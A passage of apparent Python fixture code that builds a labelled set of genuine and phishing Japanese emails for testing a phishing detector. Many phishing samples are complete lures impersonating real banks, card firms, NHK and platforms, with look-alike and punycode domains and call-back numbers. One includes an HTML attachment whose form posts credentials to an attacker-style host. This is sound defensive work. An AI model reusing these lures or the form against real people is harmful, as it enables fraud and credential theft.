  'look-alike mimicking the real ml. newsletter subdomain', fname='SBI新生銀行', auth=GL, eol='crlf')
P('nintendo-forged-gift', 'Nintendo', 'no-reply@accounts.nintendo.com',
  'ニンテンドープリペイド番号のプレゼント',
  'ニンテンドーアカウント会員の皆様へ\n\n抽選で当選されました！ニンテンドープリペイド番号（5,000円分）を受け取るには、以下からログインしてください。\nhttps://nintendo-gift.pages.dev/\n',
  'forged official From (SPF fail/DMARC fail); pages.dev', fname='Nintendo', auth=GF)
G('nomura-no-ar-tradereport', '野村證券', 'info@nomura.co.jp',
  '【野村證券】お取引報告書の電子交付について',
  '野村證券をご利用いただきありがとうございます。\n取引報告書を電子交付しました。オンラインサービスにログインのうえ、ご確認ください。\nhttps://hometrade.nomura.co.jp/\n' + SIG_NOMURA,
  'genuine, saved without Authentication-Results', fname='野村證券', auth=None, charset='shift_jis', cte='8bit')
G('amex-phishing-warning-genuine', 'アメリカン・エキスプレス', 'AmericanExpress@welcome.aexp.com',
  '【重要】フィッシング詐欺にご注意ください',
  'アメリカン・エキスプレスを装い、「カード利用確認のお願い」「ご請求金額確定のご案内」などの件名で偽サイトに誘導するフィッシングメールが確認されています。\nカード番号、有効期限、セキュリティコードを入力させようとするサイトには絶対に入力しないでください。\n\n最近の事例：[[フィッシング詐欺にご注意|https://www.americanexpress.com/ja-jp/security/phishing/]]\n',
  'genuine phishing warning full of phishing words', fname='American Express', auth=GP, struct='alt')
G('google-cloud-shop-invoice-shop-domain', 'Google', 'order@kitchen-hanamaru.example.jp',
  '【キッチン花まる】ご注文の商品を発送しました',
  'キッチン花まるでのご注文ありがとうございます。\nご注文の商品を発送しました。\n\nお問い合わせ：order@kitchen-hanamaru.example.jp\n商品ページ（Googleサイト）：https://sites.google.com/view/kitchen-hanamaru\n',
  'small shop whose homepage is on sites.google.com (free hosting, genuine)', fname='キッチン花まる', auth=GP, charset='iso-2022-jp')
G('booking-property-message-genuine', 'Booking.com', 'noreply@booking.com',
  '宿泊施設からのメッセージ：京都ステーションホテル',
  '京都ステーションホテルからメッセージが届きました。\n\n「チェックインは15時からです。お気をつけてお越しください。」\n\n[[返信する|https://secure.booking.com/messagecentre.ja.html]]\n',
  'genuine property message relayed by Booking.com', fname='Booking.com', auth=GP, struct='alt', cte='quoted-printable')
G('docusign-completed-genuine-noauth', 'DocuSign', 'dse_NA3@docusign.net',
  '完了：秘密保持契約書_株式会社サンプル商事',
  'すべての署名者が文書への署名を完了しました。\n\n[[完了した文書を表示|https://na3.docusign.net/Member/EmailStart.aspx?m=88a1]]\n',
  'genuine completion mail, no AR', fname='DocuSign', auth=None, struct='alt')
G('x-login-alert-genuine', 'X', 'info@x.com',
  '@taro_yamada さん、新しい端末からのログインがありました',
  'Windows の Chrome から @taro_yamada アカウントにログインがありました。\n\nご本人の場合は、何もする必要はありません。\nご本人でない場合は、すぐにパスワードを変更してください。\nhttps://x.com/settings/password\n',
  'genuine login alert asking to change password', fname='X', auth=MP)
G('spotify-campaign-genuine', 'Spotify', 'no-reply@spotify.com',
  '【期間限定】Premium 3か月無料キャンペーン',
  'Spotify Premiumを3か月無料でお試しいただけます。\n広告なしで音楽を楽しもう。\n期間：2026年12月31日まで\n\n[[今すぐ始める|https://www.spotify.com/jp/premium/]]\n\n配信停止はアカウント設定から。',
  'genuine campaign with 無料/期間限定 words', fname='Spotify', auth=GP, struct='html', cte='quoted-printable')
G('steam-purchase-family-forward-yahoo', 'Steam', 'kazuko.yamada55@yahoo.co.jp',
  'Fwd: Steamでのご購入ありがとうございます',
  '息子のアカウントから来たメールです。これは本物ですか？\n\n----- 転送メッセージ -----\n差出人: Steam <noreply@steampowered.com>\n件名: Steamでのご購入ありがとうございます\n\nご購入ありがとうございます。\n合計：1,980円\nhttps://store.steampowered.com/account/history/\n',
  'family forward (Yahoo! mail) of a genuine receipt', fname='山田和子', auth=GP, cte='8bit')
G('nhk-cs-no-links-genuine', 'NHK', 'info@nhk-cs.jp',
  '【NHK受信料の窓口】口座振替開始のお知らせ',
  '受信料の口座振替のお手続きが完了しました。\n次回から口座振替でお支払いいただきます。\n\nNHKがメールで受信料の割増金の支払いを求めたり、カード番号を尋ねることはありません。\n\n日本放送協会',
  'genuine no-link notice with 割増金/カード番号 words', fname='NHK受信料の窓口', auth=IP_, charset='iso-2022-jp', eol='crlf')
G('rakutensec-campaign-tracker-genuine', '楽天証券', 'info@rakuten-sec.co.jp',
  '【楽天証券】ポイント投資キャンペーン当選のお知らせ',
  '楽天証券をご利用いただきありがとうございます。\n\nポイント投資キャンペーンにご当選されました。楽天ポイント500ポイントを進呈します。\nポイントは12月中旬に付与予定です。お手続きは不要です。\n\n[[キャンペーン詳細|https://r10.to/hsec26]]\n',
  'genuine 当選 mail with Rakuten group shortener r10.to', fname='楽天証券', auth=GP, struct='alt')
G('facebook-password-reset-genuine', 'Facebook', 'security@facebookmail.com',
  'Facebookのパスワードをリセット',
  'パスワードのリセットがリクエストされました。\nこのコードを入力してください：48210391\n\nリクエストしていない場合は無視してください。\nhttps://www.facebook.com/login/identify/\n',
  'genuine reset code', fname='Facebook', auth=MP, struct='alt')
G('monex-tax-accountant-mention', 'マネックス証券', 'office@tanaka-zeirishi.example.jp',
  'マネックス証券の年間取引報告書について',
  '山田様\n\nいつもお世話になっております。田中税理士事務所です。\n確定申告の準備のため、マネックス証券の特定口座年間取引報告書をご送付ください。\nマネックス証券の画面からPDFでダウンロードできます（https://www.monex.co.jp/ にログイン→電子交付書面）。\n\n田中税理士事務所',
  'third party (tax accountant) mentioning the brand from own domain', fname='田中税理士事務所', auth=GP, charset='iso-2022-jp')
G('ocn-phishing-warning-genuine', 'OCN', 'ocn-info@ocn.ad.jp',
  '【OCN】OCNを装ったフィッシングメールにご注意ください',
  'OCNを装い、「メールボックスの容量が上限に達しました」「アカウントの確認」などの件名でIDやパスワードを入力させる偽メールが確認されています。\nOCNがメールでパスワードを尋ねることはありません。\n\n詳細：https://www.ocn.ne.jp/info/security/\n',
  'genuine warning full of phishing words', fname='OCN', auth=IP_)

# ---------------------------------------------------------------- second batch
G('daiwa-seminar-newsletter-genuine', '大和証券', 'info@daiwa.co.jp',
  '【大和証券】オンラインセミナーのご案内（12月）',
  '大和証券よりオンラインセミナーのご案内です。\n\n「2027年の相場展望」 12月10日（木）19:00～\n参加無料・事前申込制\n\nお申し込み：https://www.daiwa.co.jp/seminar/\n\n大和証券株式会社',
  'genuine newsletter, plain', fname='大和証券', auth=MP, charset='iso-2022-jp', eol='crlf')
G('paypaybank-login-alert-genuine', 'PayPay銀行', 'info@paypay-bank.co.jp',
  '【PayPay銀行】ログインのお知らせ',
  'PayPay銀行をご利用いただきありがとうございます。\n\n2026/11/20 22:41 にログインがありました。\nお心当たりがない場合は、ただちにパスワードを変更のうえ、カスタマーセンターへご連絡ください。\n\nPayPay銀行株式会社\nhttps://www.paypay-bank.co.jp/',
  'genuine login alert', fname='PayPay銀行', auth=GP)
G('zozo-sale-campaign-genuine', 'ZOZOTOWN', 'info@zozo.jp',
  '【ZOZOTOWN】最大70％OFF！冬のビッグセール開催中',
  'ZOZOTOWN 冬のビッグセール開催中！\n\n人気ブランドが最大70％OFF。期間限定クーポンも配布中です。\n本日23:59まで。\n\n[[セール会場へ|https://zozo.jp/sale/]]\n\n配信停止：[[メール設定|https://zozo.jp/_member/mailmagazine/]]',
  'genuine sale newsletter with urgency wording', fname='ZOZOTOWN', auth=GP, struct='html', cte='quoted-printable')
G('jalan-point-expire-genuine', 'じゃらん', 'info@jalan.net',
  '【じゃらんnet】期間限定ポイント有効期限のお知らせ',
  'じゃらんnetをご利用いただきありがとうございます。\n\nお客様がお持ちの期間限定ポイント（500pt）の有効期限が近づいています。\n有効期限：2026年11月30日\n\nポイントの確認：https://www.jalan.net/\n\n株式会社リクルート',
  'genuine point-expiry mail (same lure as phishing)', fname='じゃらんnet', auth=IP_)
G('unext-password-change-genuine', 'U-NEXT', 'info@unext.jp',
  '【U-NEXT】パスワード変更完了のお知らせ',
  'パスワードの変更が完了しました。\n\nお心当たりがない場合は、U-NEXTカスタマーセンターへお問い合わせください。\nhttps://help.unext.jp/\n\n株式会社U-NEXT',
  'genuine password-changed notice', fname='U-NEXT', auth=MP, charset='iso-2022-jp')
G('playstation-2sv-code-genuine', 'PlayStation', 'Sony@email.sonyentertainmentnetwork.com',
  'PlayStation™Network：確認コード',
  '確認コード：619284\n\nこのコードは10分間有効です。\nリクエストした覚えがない場合は、パスワードを変更してください。\n\nSony Interactive Entertainment',
  'genuine OTP from email.sonyentertainmentnetwork.com (secondary domain, sender plausible)', fname='PlayStation', auth=GP)
G('lifecard-usage-genuine-sjis', 'ライフカード', 'info@lifecard.co.jp',
  '【ライフカード】カードご利用のお知らせ',
  'ライフカードをご利用いただきありがとうございます。\n以下のご利用がありました。\n\nご利用日時：2026/11/18 12:03\nご利用金額：3,300円\n\nお心当たりがない場合はライフカード紛失盗難受付デスクへご連絡ください。\n※①本メールは送信専用です　②内容により通知が遅れる場合があります\n\nライフカード株式会社',
  'genuine usage notice, Shift_JIS(CP932) base64 with ①②, no link', fname='ライフカード', auth=GP, charset='shift_jis', cte='base64', eol='crlf')
G('google-2sv-code-genuine', 'Google', 'no-reply@accounts.google.com',
  'Google 確認コード',
  'Google 確認コード\n\nGoogle アカウント taro.yamada@example.jp への確認コード:\n\n593 114\n\nこのコードは誰とも共有しないでください。Google がこのコードを尋ねることはありません。',
  'genuine very short OTP mail', fname='Google', auth=GP, subj='splitmid')
P('sonybank-docs-google-forms-callback', 'ソニー銀行', 'sonybank.kyc.center@gmail.com',
  'ソニー銀行　外貨預金の出金保留について',
  'ソニー銀行をご利用のお客様\n\nお客様の外貨預金の出金を一時保留しております。\n保留解除には下記フォームの入力が必要です。\nhttps://docs.google.com/forms/d/e/1FAIpQLSf-sonybk7Q/viewform\n\nお急ぎの場合はこちら：050-5213-8807',
  'free mail gmail.com; Google Forms link plus call-back number', fname='ソニー銀行', auth=GP)
P('netbk-japanese-isp-forged-alt', '住信SBIネット銀行', 'info@netbk.co.jp',
  '【住信SBIネット銀行】認証番号カードの有効期限について',
  'お客様の認証番号カードの有効期限が近づいています。\n更新手続きを行ってください。\n\n[[https://www.netbk.co.jp/contents/|https://www.netbk-co-jp.kousin-card.buzz/contents/]]',
  'forged official From (Japanese ISP AR: softfail, DMARC fail); link text official, href .buzz', fname='住信SBIネット銀行', auth=IF, struct='alt', charset='iso-2022-jp')
P('dcard-forged-noauth-euc-qr', 'dカード', 'info@dcard.docomo.ne.jp',
  '【dカード】カードの更新手続きのお願い',
  'dカード会員様\n\n新しいカードの発送にあたり、ご住所の確認が必要です。\nスマートフォンで以下のQRコードを読み取り、お手続きください。\n\n{{img:qr}}\n',
  'forged From without AR; QR-only; EUC-JP html', fname='dカード', auth=None, struct='related', charset='euc-jp', cte='8bit')
P('amex-forward-by-family-gmail', 'アメリカン・エキスプレス', 'hanako.yamada.family@gmail.com',
  'Fwd: 【American Express】緊急のご連絡',
  'お父さんのアメックス大丈夫？こんなメールが来てた\n\n---------- Forwarded message ---------\nFrom: American Express <info@americanexpress.com>\nSubject: 【American Express】緊急のご連絡\n\nお客様のカードが不正利用された可能性があります。至急ご確認ください。\nhttps://amexjp-safe.com/check\n',
  'family forwards a phishing mail via Gmail (auth pass); label phish (content is the lure)', fname='山田花子', auth=GP, cte='8bit')

# ---------------------------------------------------------------- third batch
P('sonet-mailbox-lookalike', 'So-net', 'support@so-net-mail.top',
  '【So-net】メールアカウント利用停止のお知らせ',
  'So-net会員様\n\nお客様のメールアカウントは、セキュリティ上の理由により12月1日に利用停止となります。\n継続利用の手続き：https://so-net-mail.top/continue\n\nソニーネットワークコミュニケーションズ株式会社',
  'look-alike .top', fname='So-net', auth=GL, charset='iso-2022-jp')
G('sonet-billing-genuine', 'So-net', 'info@so-net.ne.jp',
  '【So-net】ご利用料金のお知らせ',
  'So-netをご利用いただきありがとうございます。\n11月分のご利用料金が確定しました。\n\n明細はMyページでご確認ください。\nhttps://www.so-net.ne.jp/\n\nソニーネットワークコミュニケーションズ株式会社',
  'genuine billing notice (sender plausible; so-net.ne.jp also consumer mailbox)', fname='So-net', auth=GP)
P('adobe-acrobat-share-compromised', 'Adobe', 'm.ito@ito-sekkei.co.jp',
  '伊藤 真 さんがあなたと「発注書_No2291.pdf」を共有しました',
  'Adobe Acrobat\n\n伊藤 真 さんがあなたとファイルを共有しました。\n\n発注書_No2291.pdf\n\n[[ファイルを開く|https://acrobat-adobe.com.doc-viewer.lol/share/2291]]\n\nAdobe Document Cloud',
  'compromised business partner (full pass); adobe brand as subdomain of .lol', fname='伊藤 真 (Adobe Acrobat)', auth=MP, struct='html')
G('adobe-invoice-genuine', 'Adobe', 'message@adobe.com',
  'Adobe Creative Cloud のご請求書',
  'Adobe Creative Cloud をご利用いただきありがとうございます。\n\n請求日：2026年11月12日\n金額：￥3,280（税込）\n\n請求書はアカウントページからダウンロードできます。\n[[アカウントを表示|https://account.adobe.com/orders]]\n',
  'genuine invoice', fname='Adobe', auth=GP, struct='alt')
G('adobe-acrobat-share-genuine', 'Adobe', 'message@adobe.com',
  '伊藤 真 さんが「図面_改訂版.pdf」を共有しました',
  '伊藤 真 さんがレビューのためにファイルを共有しました。\n\n図面_改訂版.pdf\n\n[[開く|https://acrobat.adobe.com/id/urn:aaid:sc:AP:5e1b7c]]\n\nAdobe Acrobat',
  'genuine share notification (same wording as the lure)', fname='伊藤 真 (Adobe Acrobat)', auth=GP, struct='html')
P('fukuoka-bank-lookalike-qp', '福岡銀行', 'info@fukuokabank-jp.com',
  '【福岡銀行】本人確認書類の再提出のお願い',
  '福岡銀行をご利用いただきありがとうございます。\n\nお客様の本人確認書類の有効期限が切れています。\n下記より再提出をお願いいたします。\nhttps://fukuokabank-jp.com/kyc/\n\n株式会社福岡銀行',
  'hyphen look-alike fukuokabank-jp.com', fname='福岡銀行', auth=GL, cte='quoted-printable')
G('fukuoka-bank-genuine', '福岡銀行', 'info@fukuokabank.co.jp',
  '【福岡銀行】振込完了のお知らせ',
  '福岡銀行をご利用いただきありがとうございます。\n振込が完了しました。\n\n振込金額：8,800円\n受付番号：20261122-0041\n\n株式会社福岡銀行\nhttps://www.fukuokabank.co.jp/',
  'genuine transfer notice (sender plausible)', fname='福岡銀行', auth=IP_, charset='iso-2022-jp', eol='crlf')
P('yodobashi-gold-point-shortener-sms', 'ヨドバシ・ドット・コム', 'yodo-point@docomo.ne.jp',
  '',
  'ヨドバシゴールドポイントが本日失効します。確認はこちら https://bit.ly/yodoGP',
  'SMS-style mail from carrier mailbox, empty subject, bit.ly', fname='', auth=GP, cte='8bit')
G('yodobashi-shipping-genuine', 'ヨドバシ・ドット・コム', 'thanks_gochuumon@yodobashi.com',
  'ヨドバシ・ドット・コム：ご注文商品出荷のお知らせ',
  'ヨドバシ・ドット・コムをご利用いただき、ありがとうございます。\nご注文の商品を出荷いたしました。\n\n【ご注文番号】1234567890\n【配送業者】ヨドバシエクストリーム\n\n配送状況はご注文履歴からご確認いただけます。\nhttps://order.yodobashi.com/yc/orderhistory/index.html',
  'genuine shipping notice', fname='ヨドバシ・ドット・コム', auth=MP, charset='iso-2022-jp')
P('instagram-forged-mail-subdomain-noauth', 'Instagram', 'security@mail.instagram.com',
  'Instagram：アカウントが削除されます',
  'お客様のアカウントはコミュニティガイドラインに違反しているため、24時間以内に削除されます。\nこれが誤りだと思われる場合は、以下から異議申し立てを行ってください。\n\n[[異議申し立て|https://instagram-appeal-center.firebaseapp.com/]]',
  'forged official From without AR; firebaseapp.com', fname='Instagram', auth=None, struct='html', charset='iso-2022-jp')
G('instagram-new-login-genuine', 'Instagram', 'security@mail.instagram.com',
  'Windowsでの新しいログイン',
  '@taro_yamada さん\n\nWindowsのChromeからアカウントへの新しいログインがありました。\n\nご本人でない場合は、パスワードを変更して、アカウントを保護してください。\n[[アカウントを保護|https://www.instagram.com/accounts/password/reset/]]\n\nInstagram',
  'genuine login alert', fname='Instagram', auth=MP, struct='alt', cte='quoted-printable')
P('nicos-callback-html-sjis', '三菱UFJニコス', 'nicos-center@nicos-card-support.com',
  '【重要】カード不正利用のご確認',
  'MUFGカード会員様\n\nお客様のカードで高額なご利用がありました（128,000円）。\nご本人様のご利用でない場合は、至急下記の専用デスクまでお電話ください。\n\n不正利用専用デスク：03-4578-2290（24時間受付）\n\n三菱UFJニコス株式会社',
  'call-back only; look-alike sender; Shift_JIS html', fname='三菱UFJニコス', auth=GL, struct='html', charset='shift_jis', cte='8bit')
G('nicos-phishing-warning-genuine', '三菱UFJニコス', 'info@cr.mufg.jp',
  '【三菱UFJニコス】当社を装った不審な電話・メールにご注意ください',
  '当社を装い、「カード不正利用のご確認」として電話番号に連絡させたり、偽サイトでカード番号・暗証番号を入力させたりする手口が確認されています。\n当社がメールや電話で暗証番号を伺うことはありません。\n\n詳しくは：https://www.cr.mufg.jp/member/security/\n',
  'genuine warning full of phishing words', fname='三菱UFJニコス', auth=GP, charset='iso-2022-jp')
P('mhlw-lookalike-go-jp-subdomain', '厚生労働省', 'info@mhlw.go.jp.kyufu-shinsei.com',
  '【厚生労働省】子育て応援給付金のご案内',
  '子育て世帯の皆様\n\n子育て応援給付金（児童1人あたり3万円）の申請を受け付けています。\nhttps://mhlw.go.jp.kyufu-shinsei.com/apply\n\n厚生労働省 子ども家庭局',
  'official domain as prefix of attacker domain in sender and link', fname='厚生労働省', auth=GL)
G('city-nagoya-no-ar-genuine', '市役所', 'zeimu@city.nagoya.lg.jp',
  '【名古屋市】市民税・県民税の定額減税について',
  '名古屋市 税務課です。\n\n定額減税の調整給付金について、対象の方には12月中旬に通知書を郵送します。\n市からメールやSMSで給付金の手続きを求めることはありません。\n\nhttps://www.city.nagoya.jp/\n',
  'genuine municipal mail without AR (sender plausible, web on city.nagoya.jp)', fname='名古屋市', auth=None, charset='iso-2022-jp')
P('spotify-family-plan-raw-utf8-subject', 'Spotify', 'family@spotify-plan.club',
  'Spotify ファミリープランのメンバー確認',
  'ファミリープランのメンバー確認が必要です。\n確認されない場合、プランは解約されます。\nhttps://spotify-plan.club/family/confirm\n',
  'look-alike .club; raw 8-bit UTF-8 subject', fname='Spotify', auth=GL, subj='raw', cte='8bit')
G('x-premium-receipt-genuine', 'X', 'info@x.com',
  'X Premiumのご購入ありがとうございます',
  'X Premiumにご登録いただきありがとうございます。\n\n金額：￥980/月\n次回更新日：2026年12月21日\n\nサブスクリプションの管理：https://x.com/settings/subscriptions\n',
  'genuine receipt', fname='X', auth=GP, cte='quoted-printable')

# ---------------------------------------------------------------- fourth batch
P('rakutensec-nisa-campaign-lookalike-html', '楽天証券', 'campaign@rakuten-sec-nisa.com',
  '【楽天証券】NISA口座開設特典 10,000ポイント付与のお知らせ',
  'おめでとうございます！\nNISA口座開設特典として10,000ポイントを付与いたします。\nポイント受け取りには、楽天会員ID・パスワードでのログインが必要です。\n\n[[ポイントを受け取る|https://rakuten-sec-nisa.com/point/login]]\n\n楽天証券',
  'look-alike with campaign wording (mirror of the genuine 当選 mail)', fname='楽天証券', auth=GL, struct='html')
P('nomura-ipfs-gateway', '野村證券', 'nomura@ns-hometrade.online',
  '【野村證券】重要：オンラインサービスのご利用再開手続き',
  'オンラインサービスのご利用が一時停止されています。\n再開には以下から手続きをお願いします。\nhttps://ipfs.io/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/nomura.html\n',
  'IPFS public gateway landing; look-alike .online', fname='野村證券', auth=GL, charset='iso-2022-jp', eol='crlf')
P('zozo-sms-carrier-shortener', 'ZOZOTOWN', '08098765432@softbank.ne.jp',
  'ZOZO',
  '【ZOZOTOWN】ご注文の商品が発送保留になっています。住所確認 https://tinyurl.com/zozo-hold',
  'SMS-style from carrier mailbox; tinyurl', fname='', auth=GP, cte='8bit')
P('jalan-property-message-lookalike', 'じゃらん', 'message@jalan-guest.net',
  '【じゃらんnet】宿泊施設からのメッセージ',
  '宿泊施設「湯の郷ホテル」からメッセージがあります。\n\n「ご予約のクレジットカードの承認が取れませんでした。24時間以内に再認証をお願いします。」\n\n[[メッセージを確認|https://jalan-guest.net/msg/8812]]',
  'look-alike mirroring a property message; card re-verify', fname='じゃらんnet', auth=GL, struct='alt', charset='iso-2022-jp')
P('booking-forged-noreply-dmarcfail', 'Booking.com', 'noreply@booking.com',
  'ご予約のお支払いが確認できません',
  'ご予約（確認番号 4821.339.201）のお支払いが確認できませんでした。\n予約を維持するには、12時間以内にお支払い情報を更新してください。\n\n[[https://secure.booking.com/myreservations.ja.html|https://secure-booking.com-reserve.top/myreservations]]',
  'forged official From, SPF fail/DMARC fail; visible official URL, href brand-as-subdomain', fname='Booking.com', auth=GF, struct='html')
P('steam-lookalike-punycode-qp', 'Steam', 'support@%s.com' % puny('steamроwered'),
  'Steamサポート：アカウント盗難の報告',
  'あなたのアカウントが不正取引に使用されたとの報告がありました。\nアカウントがロックされる前に、本人確認を行ってください。\nhttps://help.%s.com/verify\n' % puny('steamроwered'),
  'punycode homoglyph (Cyrillic р/о) steampowered', fname='Steamサポート', auth=GL, cte='quoted-printable')
P('adobe-html-attachment-invoice', 'Adobe', 'invoice@adobe-doc-share.com',
  '請求書をお送りします（Adobe Acrobat）',
  '請求書を添付いたしました。閲覧にはメールアカウントでのサインインが必要です。\n',
  'HTML attachment with login form (recipient email prefilled)', fname='Adobe Acrobat', auth=GL, struct='mixed', inner_alt=True,
  attach=('請求書_INV-2291.html', 'text/html', '<html><head><meta charset="utf-8"><title>Adobe Document Cloud</title></head><body><p>PDFを表示するにはサインインしてください</p><form action="https://adobe-doc-share.com/auth.php" method="post"><input name="email" value="taro.yamada@example.jp"><input type="password" name="pass"><button>表示</button></form></body></html>\n'))
P('nhk-callback-warimashi-iso', 'NHK', 'nhk.jushinryo.center@gmail.com',
  'NHK受信料 未払いに関する最終通知',
  '山田 太郎 様\n\n放送受信料の未払いが3年分確認されています。\n本日中に下記までご連絡いただけない場合、法的手続き（支払督促）に移行します。\n\nNHK受信料 未払い窓口：0570-08-5521\n',
  'call-back only from gmail; 法的手続き threat', fname='NHK受信料センター', auth=GP, charset='iso-2022-jp')
G('nintendo-newsletter-genuine', 'Nintendo', 'nintendo-news@mail.nintendo.co.jp',
  '【任天堂】年末年始のおすすめソフトとセール情報',
  'いつもご愛顧いただきありがとうございます。\n\nニンテンドーeショップでは年末年始セールを開催中です。\n最大50％OFF！ 期間限定、お見逃しなく。\n\n[[セール会場へ|https://store-jp.nintendo.com/sale/]]\n\n配信停止：ニンテンドーアカウントの設定から変更できます。\n任天堂株式会社',
  'genuine newsletter from mail.nintendo.co.jp (sender plausible), sale wording', fname='任天堂', auth=GP, struct='html')
G('sonybank-otp-genuine', 'ソニー銀行', 'info@sonybank.net',
  '【ソニー銀行】ワンタイムパスワードのお知らせ',
  'ワンタイムパスワード：552018\n有効期限：10分\n\nこのメールに心当たりがない場合は、ソニー銀行カスタマーセンターへご連絡ください。',
  'genuine OTP', fname='ソニー銀行', auth=MP)
G('chiba-bank-warning-genuine', '千葉銀行', 'info@chibabank.co.jp',
  '【千葉銀行】当行を装ったSMS・メールにご注意ください',
  '当行を装い「口座が凍結されました」「ワンタイムパスワードの再登録が必要です」などと偽サイトへ誘導するSMS・メールが確認されています。\n当行がSMSやメールでパスワードを入力させることはありません。\n\nhttps://www.chibabank.co.jp/news/\n\n株式会社千葉銀行',
  'genuine warning full of phishing words', fname='千葉銀行', auth=GP, charset='iso-2022-jp', eol='crlf')
G('amex-campaign-genuine-aexp', 'アメリカン・エキスプレス', 'AmericanExpress@welcome.aexp.com',
  '【ご招待】ポイント2倍キャンペーンにご登録ください',
  '会員様限定のキャンペーンのご案内です。\n\nキャンペーン期間中のご利用で、ポイントが2倍になります。\nご参加には事前登録が必要です。\n\n[[今すぐ登録する|https://www.americanexpress.com/ja-jp/benefits/campaign/]]\n',
  'genuine campaign asking to register, secondary sending domain', fname='American Express', auth=GP, struct='html', cte='quoted-printable')
G('monex-login-alert-genuine', 'マネックス証券', 'info@monex.co.jp',
  '【マネックス証券】ログイン通知',
  'マネックス証券へのログインがありました。\n\n日時：2026/11/21 07:55\n\nお心当たりがない場合は、至急パスワードを変更し、お客様ダイヤルへご連絡ください。\nhttps://www.monex.co.jp/',
  'genuine login alert', fname='マネックス証券', auth=GP, charset='iso-2022-jp')
G('booking-review-request-genuine', 'Booking.com', 'review@booking.com',
  '京都ステーションホテルでの滞在はいかがでしたか？',
  'ご滞在の感想をお聞かせください。口コミは今後のお客様の参考になります。\n\n[[口コミを投稿|https://secure.booking.com/review.ja.html]]\n',
  'genuine review request (sender plausible)', fname='Booking.com', auth=MP, struct='alt')
G('docusign-genuine-mixed-pdf', 'DocuSign', 'dse_NA3@docusign.net',
  '完了：業務委託契約書_2026',
  'すべての当事者が署名を完了しました。完了した文書を添付します。\n',
  'genuine completed envelope with PDF attachment', fname='DocuSign', auth=GP, struct='mixed',
  attach=('業務委託契約書_2026.pdf', 'application/pdf', b'%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n'))
G('steam-sale-newsletter-genuine', 'Steam', 'noreply@steampowered.com',
  'Steamウィンターセールが始まりました！',
  'Steamウィンターセールが開催中です。数千タイトルが特別価格！\n\n[[ストアを見る|https://store.steampowered.com/]]\n\nメール設定の変更：https://store.steampowered.com/account/emailoptout',
  'genuine sale newsletter', fname='Steam', auth=GP, struct='alt')
G('unext-newsletter-genuine', 'U-NEXT', 'info@unext.jp',
  '【U-NEXT】今週の新着作品',
  '今週の新着作品をお届けします。\n\n・話題の映画が見放題に\n・人気アニメ最新話配信中\n\n[[作品をチェック|https://video.unext.jp/]]\n\n配信停止はアカウント設定から。',
  'genuine newsletter', fname='U-NEXT', auth=GP, struct='html')
P('aupaycard-sms-forward-family-isgd', 'au PAY カード', 'kazuko.yamada55@yahoo.co.jp',
  'Fwd: auペイカードから',
  'また変なの来た。無視でいいよね？\n\n【au PAY カード】ご利用確認のため、カードを一時停止しました。 https://is.gd/aupayc\n',
  'family forwards SMS (Yahoo! mail); is.gd', fname='山田和子', auth=GP, cte='8bit')
P('facebook-forged-facebookmail-fail', 'Facebook', 'security@facebookmail.com',
  'お客様のFacebookアカウントは停止されました',
  'コミュニティ規定への違反が検出されたため、アカウントを停止しました。\n異議申し立てはこちら：https://www.facebook.com.appeal-case-88120.click/\n',
  'forged secondary official sender (M365 fail); brand-as-subdomain .click', fname='Facebook', auth=MF)
